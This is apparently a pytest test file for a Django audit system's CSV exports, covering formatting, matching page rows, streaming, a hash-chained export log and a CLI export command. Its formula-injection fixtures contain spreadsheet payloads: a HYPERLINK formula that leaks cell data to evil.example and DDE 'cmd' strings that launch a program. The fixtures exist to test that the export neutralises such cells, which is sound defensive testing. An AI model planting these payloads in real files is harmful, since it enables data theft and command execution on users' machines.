"""CSV exports of the audit lists (``/audit/<kind>/export.csv`` and ``manage.py export``): the
bytes (BOM, header, plain decimals, Shanghai times, formula cells neutralised), the same rows as
the page, streaming, and the hash chain of export records (``manage.py verify_exports``).

Run on both databases: SQLite goes through Python's csv writer, PostgreSQL through ``COPY``."""

from __future__ import annotations

import csv
import hashlib
import io
import itertools
import re

import pytest
from django.conf import settings
from django.core.management import CommandError, call_command
from django.http import StreamingHttpResponse
from django.utils import translation

from audit import exports
from audit.exports import GENESIS, header_row, verify_chain
from audit.lists import DATE, DATETIME, INTEGER, LISTS, MONEY, NUMBER, filtered, ordered
from audit.models import ExportChainHead, ExportRecord
from coupons.services.coupons import coupon_revoke
from coupons.services.review import review_reject
from tests import factories
from tests.audit.conftest import WUHU
from tests.coupons.conftest import make_application

KINDS = sorted(LISTS)
ON_SQLITE = settings.DATABASES["default"]["ENGINE"].endswith("sqlite3")
BOM = b"\xef\xbb\xbf"

PLAIN_MONEY = re.compile(r"-?\d+\.\d{2}")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")
WHOLE = re.compile(r"-?\d+")
SHANGHAI_TIME = re.compile(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}")
ISO_DATE = re.compile(r"\d{4}-\d{2}-\d{2}")
SHAPES = {MONEY: PLAIN_MONEY, NUMBER: PLAIN_NUMBER, INTEGER: WHOLE, DATETIME: SHANGHAI_TIME, DATE: ISO_DATE}


def export_url(kind: str) -> str:
    return f"/audit/{kind}/export.csv"


def download(client, kind: str, **params) -> tuple[StreamingHttpResponse, bytes]:
    response = client.get(export_url(kind), params)
    assert response.status_code == 200, getattr(response, "content", b"")[:300]
    body = b"".join(response.streaming_content)  # the test client closes the response at the end
    return response, body


def parse(body: bytes) -> list[list[str]]:
    """Header and rows of a CSV as a spreadsheet would read them."""
    text = body.decode("utf-8").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text, newline="")))


def rows_as_dicts(kind: str, body: bytes) -> list[dict]:
    _header, *rows = parse(body)
    return [dict(zip(LISTS[kind].keys, row, strict=True)) for row in rows]


def page_rows(client, kind: str, **params) -> list[tuple]:
    response = client.get(f"/audit/{kind}/", params)
    assert response.status_code == 200
    return list(response.context["page"].object_list)


# --- the bytes -------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
def test_each_export_has_a_bom_a_header_and_every_row(auditor_client, world, kind):
    response, body = download(auditor_client, kind)

    assert body.startswith(BOM)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    header, *rows = parse(body)
    assert header == header_row(LISTS[kind])
    assert len(rows) == LISTS[kind].queryset().count() > 0
    assert all(len(row) == len(header) for row in rows)


@pytest.mark.parametrize("kind", KINDS)
def test_each_export_writes_numbers_and_times_plainly(auditor_client, world, kind):
    """Money as plain decimals with two places (no thousands separators, no exponent), other
    numbers plain, times as 'YYYY-MM-DD HH:MM:SS' (Shanghai), dates ISO; empty where null."""
    _response, body = download(auditor_client, kind)

    problems = []
    for row in rows_as_dicts(kind, body):
        for column in LISTS[kind].columns:
            shape = SHAPES.get(column.kind)
            value = row[column.key]
            if shape is not None and value != "" and not shape.fullmatch(value):
                problems.append(f"{column.key}={value!r}")
    assert not problems, problems


def test_a_download_without_a_bom_on_request(auditor_client, world):
    _response, body = download(auditor_client, "applications", encoding="utf-8")

    assert not body.startswith(BOM)
    assert body.startswith(b"reference,")


def test_the_header_marks_times_as_shanghai_times(auditor_client, world):
    _response, body = download(auditor_client, "applications")

    header = parse(body)[0]
    assert "submitted (Asia/Shanghai)" in header
    assert "claimed (yuan)" in header


def test_the_header_is_in_the_language_of_the_request(auditor_client, world):
    response = auditor_client.get(export_url("applications"), HTTP_ACCEPT_LANGUAGE="zh-hans")
    body = b"".join(response.streaming_content)

    header = parse(body)[0]
    with translation.override("zh-hans"):
        assert header == header_row(LISTS["applications"])
    assert header[0] == "申请编号"
    assert any(label.endswith(" (Asia/Shanghai)") for label in header)


def test_the_applications_export_has_the_claim_the_grant_and_the_risk(auditor_client, world):
    """reference, enterprise, claim, grant, risk score, band and the top reasons, as stored."""
    _response, body = download(auditor_client, "applications", encoding="utf-8")

    app = world.app_hefei
    row = next(row for row in rows_as_dicts("applications", body) if row["reference"] == app.reference)
    assert row == {
        "reference": app.reference,
        "organisation__uscc": world.hefei.uscc,
        "organisation__name": world.hefei.name,
        "organisation__region_code": "340100",
        "organisation__industry_id": "I6513",
        "program__code": "AUD-A",
        "provider__organisation__name": world.provider_one.organisation.name,
        "accelerator__name": "NVIDIA A100 80GB",
        "claimed_card_hours": "10000.0000",
        "claimed_amount": "100000.00",
        "granted_amount": "20000.00",
        "status": "approved",
        # 00:30 on 1 March in Shanghai (28 February, 16:30 in UTC)
        "submitted_at": "2026-03-01 00:30:00",
        "risk_score": str(app.risk_score),
        "risk_band": app.risk_band,
        "risk_reasons": app.risk_reasons,
    }
    assert app.risk_reasons, "the scoring gave reasons to export"
    pending = next(
        row for row in rows_as_dicts("applications", body) if row["reference"] == world.app_pending.reference
    )
    assert pending["granted_amount"] == ""


def test_money_has_no_thousands_separator_or_exponent_even_when_large(auditor_client, world):
    _response, body = download(auditor_client, "ledger", encoding="utf-8")

    amounts = {row["amount"] for row in rows_as_dicts("ledger", body)}
    assert {"1000000.00", "-1000000.00", "20000.00", "-19200.00", "800.00"} <= amounts
    text = body.decode()
    assert "1,000,000" not in text
    assert "E+" not in text and "e+" not in text


def test_a_statement_total_is_written_with_two_places(auditor_client, world):
    _response, body = download(auditor_client, "settlements", encoding="utf-8")

    totals = {row["id"]: row["subsidy_total"] for row in rows_as_dicts("settlements", body)}
    assert totals[str(world.statement_one.pk)] == "800.00"
    assert totals[str(world.statement_feb.pk)] == "0.00"


def test_times_and_dates_are_in_shanghai(auditor_client, world):
    _response, body = download(auditor_client, "coupons", encoding="utf-8")

    row = next(row for row in rows_as_dicts("coupons", body) if row["code"] == world.coupon_hefei.code)
    assert row["valid_from"] == "2026-03-02 09:00:00"
    assert row["valid_until"] == "2027-03-02 09:00:00"  # 365 days
    _response, body = download(auditor_client, "redemptions", encoding="utf-8")
    row = next(row for row in rows_as_dicts("redemptions", body) if row["id"] == str(world.redemption_one.pk))
    assert (row["created_at"], row["period_start"], row["period_end"]) == (
        "2026-03-20 12:00:00",
        "2026-03-01",
        "2026-03-31",
    )


# --- formula injection -----------------------------------------------------------------------

HOSTILE_NAMES = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1 制表符",
}
CR_NAME = "\r=1+1 回车"


@pytest.fixture
def hostile(world, reviewer, officer):
    """Organisations whose names a spreadsheet would run, each with a submitted application; a
    rejection and a revocation whose reasons start with '=' and '@' (the audit trail, the ledger)."""
    applications = {}
    for key, name in [*HOSTILE_NAMES.items(), ("cr", CR_NAME)]:
        organisation = factories.make_organisation(name=name)
        applications[key] = make_application(
            organisation=organisation, provider=world.provider_one, program=world.program_a
        )
    review_reject(application=applications["="], reviewer=reviewer, reason="=1+2 看似公式的理由")
    coupon_revoke(coupon=world.coupon_wuhu, actor=officer, reason="@SUM(A1:A9) 撤销")
    return applications


def test_cells_a_spreadsheet_would_run_get_a_leading_apostrophe(auditor_client, hostile):
    _response, body = download(auditor_client, "applications", encoding="utf-8")

    names = {row[2] for row in parse(body)[1:] if len(row) > 2}
    for name in HOSTILE_NAMES.values():
        assert "'" + name in names, repr(name)
        assert name not in names, repr(name)


def test_a_name_starting_with_a_carriage_return_stays_in_one_neutralised_cell(auditor_client, hostile):
    _response, body = download(auditor_client, "applications", encoding="utf-8")

    header, *rows = parse(body)
    assert all(len(row) == len(header) for row in rows)
    assert "'" + CR_NAME in {row[2] for row in rows}
    assert not any(row[0].startswith(("=", "+", "-", "@")) for row in rows)


def test_an_audit_reason_and_a_ledger_memo_are_neutralised(auditor_client, hostile):
    _response, body = download(auditor_client, "audit-trail", state="application.reject", encoding="utf-8")
    reasons = {row["reason"] for row in rows_as_dicts("audit-trail", body)}
    assert "'=1+2 看似公式的理由" in reasons

    _response, body = download(auditor_client, "ledger", state="revoke", encoding="utf-8")
    memos = {row["transaction__memo"] for row in rows_as_dicts("ledger", body)}
    assert "'@SUM(A1:A9) 撤销" in memos


def test_neutralising_leaves_numbers_and_ordinary_text_alone(auditor_client, hostile, world):
    _response, body = download(auditor_client, "ledger", encoding="utf-8")
    assert "-1000000.00" in {row["amount"] for row in rows_as_dicts("ledger", body)}

    _response, body = download(auditor_client, "applications", enterprise=world.wuhu.uscc, encoding="utf-8")
    assert {row["organisation__name"] for row in rows_as_dicts("applications", body)} == {world.wuhu.name}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
        ("合肥", "合肥"),
    ],
)
def test_neutralise(text, expected):
    assert exports.neutralise(text) == expected


# --- the same rows as the page ---------------------------------------------------------------

SAME_AS_PAGE = [
    ("applications", lambda w: {"program": "AUD-A", "state": "approved", "sort": "-claimed_amount"}),
    ("applications", lambda w: {"date_from": "2026-03-01", "date_to": "2026-03-01", "sort": "reference"}),
    ("applications", lambda w: {"region": WUHU, "amount_min": "50000", "sort": "submitted_at"}),
    ("applications", lambda w: {"risk_band": "medium", "industry": "I6513"}),
    ("coupons", lambda w: {"provider": w.provider_one.organisation.uscc, "sort": "face_value"}),
    ("ledger", lambda w: {"program": "AUD-A", "amount_max": "0", "sort": "amount"}),
    ("usage", lambda w: {"enterprise": w.hefei.uscc, "sort": "-started_at"}),
    ("redemptions", lambda w: {"state": "posted", "sort": "subsidy"}),
    ("settlements", lambda w: {"provider": w.provider_one.organisation.uscc, "sort": "-month"}),
    ("assessments", lambda w: {"program": "AUD-A", "sort": "-score"}),
    ("cases", lambda w: {"state": "open"}),
    ("audit-trail", lambda w: {"date_from": "2026-03-20", "sort": "action"}),
]


@pytest.mark.parametrize("kind", sorted({kind for kind, _params in SAME_AS_PAGE}))
def test_the_export_has_exactly_the_rows_of_the_page_in_its_order(auditor_client, world, kind):
    for case_kind, params in SAME_AS_PAGE:
        if case_kind != kind:
            continue
        on_page = page_rows(auditor_client, kind, **params(world))
        _response, body = download(auditor_client, kind, **params(world))
        exported = parse(body)[1:]

        assert 0 < len(exported) < LISTS[kind].queryset().count(), params(world)
        first_keys = [str(row[0]) for row in on_page]
        assert [row[0] for row in exported] == first_keys, params(world)


def test_the_page_number_does_not_cut_the_export(auditor_client, world, monkeypatch):
    from audit import views

    monkeypatch.setattr(views, "PAGE_SIZE", 2)
    _response, body = download(auditor_client, "applications", page="2")

    assert len(parse(body)) == 1 + 5


def test_an_invalid_filter_exports_nothing_and_records_nothing(auditor_client, world):
    response = auditor_client.get(export_url("applications"), {"amount_min": "lots"})

    assert response.status_code == 404
    assert not ExportRecord.objects.exists()


# --- streaming and recording -----------------------------------------------------------------


def test_the_export_is_streamed_as_an_attachment(auditor_client, world):
    response = auditor_client.get(export_url("applications"))

    assert isinstance(response, StreamingHttpResponse)
    assert response.streaming
    assert re.fullmatch(r'attachment; filename="applications-20260325-\d{6}\.csv"', response["Content-Disposition"])
    assert response["Cache-Control"] == "no-store"
    assert not ExportRecord.objects.exists(), "recorded once the last chunk has gone out"
    b"".join(response.streaming_content)
    assert ExportRecord.objects.count() == 1


def test_every_export_is_recorded_with_the_hash_of_the_bytes_sent(auditor_client, auditor, world):
    _response, body = download(auditor_client, "applications", program="AUD-A", state="", sort="reference")

    record = ExportRecord.objects.get()
    assert (record.kind, record.user, record.actor_label) == ("applications", auditor, "auditor")
    assert record.filters == {"program": "AUD-A", "sort": "reference"}  # empty filters are left out
    assert record.rows == 3 == len(parse(body)) - 1
    assert record.sha256 == hashlib.sha256(body).hexdigest()
    assert record.complete is True
    assert record.previous_hash == GENESIS


@pytest.mark.parametrize("kind", ["ledger", "audit-trail", "settlements"])
def test_the_record_counts_the_rows_and_hashes_the_file_of_any_list(auditor_client, world, kind):
    _response, body = download(auditor_client, kind, encoding="utf-8")

    record = ExportRecord.objects.get()
    assert record.rows == LISTS[kind].queryset().count() == len(parse(body)) - 1
    assert record.sha256 == hashlib.sha256(body).hexdigest()
    assert record.filters == {"encoding": "utf-8"}


def test_a_download_cut_off_is_recorded_as_incomplete(auditor, world):
    """A WSGI server closes the stream when the client goes away: the record says so."""
    audit_list = LISTS["applications"]
    stream = exports.export_stream(
        audit_list=audit_list, queryset=audit_list.queryset(), actor=auditor, filters={"program": "AUD-A"}
    )
    head = next(stream)
    stream.close()

    record = ExportRecord.objects.get()
    assert record.complete is False
    assert (record.rows, record.sha256) == (0, hashlib.sha256(head).hexdigest())
    assert verify_chain() == []


def test_records_form_a_chain(auditor_client, world):
    for kind in ("applications", "coupons", "ledger", "cases"):
        download(auditor_client, kind)

    records = list(ExportRecord.objects.order_by("id"))
    assert [r.kind for r in records] == ["applications", "coupons", "ledger", "cases"]
    assert records[0].previous_hash == GENESIS
    for before, after in itertools.pairwise(records):
        assert after.previous_hash == before.record_hash
    assert len({r.record_hash for r in records}) == 4
    assert ExportChainHead.objects.get(pk=1).last_hash == records[-1].record_hash


# --- verify_exports --------------------------------------------------------------------------


@pytest.fixture
def chain(auditor_client, world) -> list[ExportRecord]:
    """Four exports by the auditor and one by the command line."""
    for kind in ("applications", "coupons", "usage"):
        download(auditor_client, kind)
    call_command("export", "cases", "--output", "/dev/null")
    download(auditor_client, "ledger", program="AUD-A")
    return list(ExportRecord.objects.order_by("id"))


def verify() -> str:
    out = io.StringIO()
    call_command("verify_exports", stdout=out, stderr=io.StringIO())
    return out.getvalue()


def test_verify_exports_passes_on_an_intact_chain(chain):
    assert len(chain) == 5
    assert verify() == "export chain ok: 5 records\n"
    assert verify_chain() == []


def test_verify_exports_passes_on_no_exports(db):
    assert verify() == "export chain ok: 0 records\n"


@pytest.mark.parametrize(
    "change",
    [
        {"rows": 999},
        {"sha256": "0" * 64},
        {"filters": {"program": "AUD-B"}},
        {"actor_label": "someone-else"},
        {"kind": "usage"},
        {"complete": False},
    ],
    ids=lambda change: next(iter(change)),
)
def test_verify_exports_fails_after_a_record_is_altered(chain, change):
    ExportRecord.objects.filter(pk=chain[1].pk).update(**change)

    with pytest.raises(CommandError, match="export chain broken"):
        verify()
    assert any(f"record {chain[1].pk}" in problem and "altered" in problem for problem in verify_chain())


def test_verify_exports_fails_after_a_record_is_altered_and_rehashed_alone(chain):
    """Recomputing the altered record's own hash does not help: the next record still points at
    the old one."""
    record = chain[2]
    ExportRecord.objects.filter(pk=record.pk).update(rows=0)
    record.refresh_from_db()
    new_hash = exports.record_hash_of(record)
    ExportRecord.objects.filter(pk=record.pk).update(record_hash=new_hash)

    with pytest.raises(CommandError):
        verify()
    assert any(f"record {chain[3].pk}" in problem for problem in verify_chain())


def test_verify_exports_fails_after_a_middle_record_is_deleted(chain):
    ExportRecord.objects.filter(pk=chain[2].pk).delete()

    with pytest.raises(CommandError, match="export chain broken"):
        verify()
    assert any(f"record {chain[3].pk}" in problem and "missing" in problem for problem in verify_chain())


def test_verify_exports_fails_after_the_last_record_is_deleted(chain):
    ExportRecord.objects.filter(pk=chain[-1].pk).delete()

    with pytest.raises(CommandError, match="export chain broken"):
        verify()
    assert verify_chain() == ["the chain head does not point at the last record (the last records were removed)"]


def test_verify_exports_fails_after_every_record_is_deleted(chain):
    ExportRecord.objects.all().delete()

    with pytest.raises(CommandError):
        verify()


def test_the_chain_goes_on_after_a_verification(chain, auditor_client):
    verify()
    download(auditor_client, "settlements")

    assert verify() == "export chain ok: 6 records\n"


# --- manage.py export ------------------------------------------------------------------------


def test_the_command_writes_the_same_bytes_as_the_web(auditor_client, world, tmp_path):
    target = tmp_path / "applications.csv"

    call_command(
        "export", "applications", "program=AUD-A", "state=approved", "--sort=reference", "--output", str(target)
    )
    _response, web = download(auditor_client, "applications", program="AUD-A", state="approved", sort="reference")

    written = target.read_bytes()
    assert written == web
    assert written.startswith(BOM)
    assert len(parse(written)) == 1 + 2
    record = ExportRecord.objects.order_by("id").first()
    assert (record.kind, record.user, record.actor_label) == ("applications", None, "cli")
    assert record.filters == {"program": "AUD-A", "state": "approved"}
    assert record.rows == 2
    assert record.sha256 == hashlib.sha256(written).hexdigest()


def test_the_command_writes_plain_utf8_on_request(world, tmp_path, auditor_client):
    target = tmp_path / "ledger.csv"

    call_command("export", "ledger", "state=fund", "--plain-utf8", "--output", str(target))
    _response, web = download(auditor_client, "ledger", state="fund", encoding="utf-8")

    assert target.read_bytes() == web
    assert not web.startswith(BOM)
    assert len(parse(web)) == 1 + 4


def test_the_command_applies_date_and_amount_filters_like_the_web(world, tmp_path):
    target = tmp_path / "applications.csv"

    call_command(
        "export",
        "applications",
        "date_from=2026-03-01",
        "date_to=2026-03-01",
        "amount_min=60000",
        "--output",
        str(target),
    )

    assert [row[0] for row in parse(target.read_bytes())[1:]] == [world.app_hefei.reference]


def test_the_command_without_output_writes_to_standard_output(world, capfdbinary):
    call_command("export", "cases", "state=closed")

    out = capfdbinary.readouterr().out
    assert out.startswith(BOM)
    assert [row[0] for row in parse(out)[1:]] == [str(world.case_closed.pk)]


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["applications", "colour=red"], "unknown filter"),
        (["settlements", "region=340100"], "unknown filter"),  # a filter of another list
        (["applications", "state=no-such-state"], "invalid filters"),
        (["applications", "amount_min=lots"], "invalid filters"),
        (["applications", "program"], "name=value"),
    ],
)
def test_the_command_refuses_bad_filters_and_records_nothing(world, tmp_path, arguments, message):
    target = tmp_path / "out.csv"

    with pytest.raises(CommandError, match=message):
        call_command("export", *arguments, "--output", str(target))
    assert not target.exists()
    assert not ExportRecord.objects.exists()


def test_the_command_refuses_an_unknown_list(db):
    with pytest.raises(CommandError):
        call_command("export", "passwords")


# --- both database paths ---------------------------------------------------------------------


@pytest.mark.postgres
@pytest.mark.parametrize(
    "kind",
    [kind for kind in KINDS],
)
def test_on_postgresql_copy_and_the_python_writer_give_the_same_csv(world, hostile, kind):
    """The COPY path (used on PostgreSQL) formats every cell as the Python path (SQLite) does."""
    audit_list = LISTS[kind]
    queryset = ordered(audit_list, filtered(audit_list, {})[0], "")

    by_copy = b"".join(exports._copy_rows(audit_list, queryset, [0]))
    by_python = b"".join(exports._python_rows(audit_list, queryset, [0]))

    assert parse(by_copy) == parse(by_python)


@pytest.mark.postgres
def test_on_postgresql_the_copy_path_counts_its_rows(auditor_client, world):
    _response, body = download(auditor_client, "ledger")

    assert ExportRecord.objects.get().rows == 20 == len(parse(body)) - 1


def test_the_export_takes_the_copy_path_only_on_postgresql(auditor_client, world, on_postgres, monkeypatch):
    used = []
    for name in ("_copy_rows", "_python_rows"):
        original = getattr(exports, name)

        def spy(*args, _original=original, _name=name, **kwargs):
            used.append(_name)
            return _original(*args, **kwargs)

        monkeypatch.setattr(exports, name, spy)

    download(auditor_client, "applications")

    assert used == (["_copy_rows"] if on_postgres else ["_python_rows"])
